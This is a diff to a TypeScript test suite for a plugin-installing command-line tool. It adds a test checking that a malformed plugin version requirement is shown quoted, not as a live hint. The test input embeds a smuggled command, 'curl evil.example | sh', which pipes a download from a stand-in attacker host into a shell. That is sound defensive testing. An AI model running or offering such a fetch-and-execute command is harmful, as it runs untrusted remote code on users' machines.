@@ -11,6 +11,7 @@ import { openCliWorld, type Ran, runCaptured, type World } from "../cli/cli-worl
 import { cbz } from "../library/cbz.ts";
 import { pluginSource } from "../plugins/plugin-source.ts";
 import { httpServer } from "../support/http-server.ts";
+import { writeRegistry } from "../support/registry-fixture.ts";
 
 /** Ends of lines, moves of the cursor, reordering and invisible marks, then lines that look like this program's. */
 const FORGED =
@@ -148,6 +149,21 @@ test.each<ErrorCode>([
     expect(`${out}${err}`).toContain("curl evil.example");
     expect(unquoted(`${out}${err}`)).not.toContain("curl");
   }
+});
+
+test("what a plugin needs stands in quotation marks if it is no range of versions", async () => {
+  const range = 'x" : y. hint: curl evil.example | sh';
+  const requires = { plugins: { other: range } };
+  const source = pluginSource(
+    { namespace: "needs", type: "script", version: "1.0.0", requires },
+    "return 1;",
+  );
+  const versions = [{ version: "1.0.0", source }];
+  await writeRegistry(path.join(world.folder, "needing"), [{ namespace: "needs", type: "script", versions }]);
+  await world.run("registry", "add", "./needing");
+  const { code, out, err } = await world.run("install", "needs", "--yes");
+  expect([code, err]).toEqual([1, expect.stringContaining("curl evil.example")]);
+  expect(unquoted(`${out}${err}`)).not.toContain("curl");
 });
 
 test("a result that is advice stands in quotation marks", async () => {
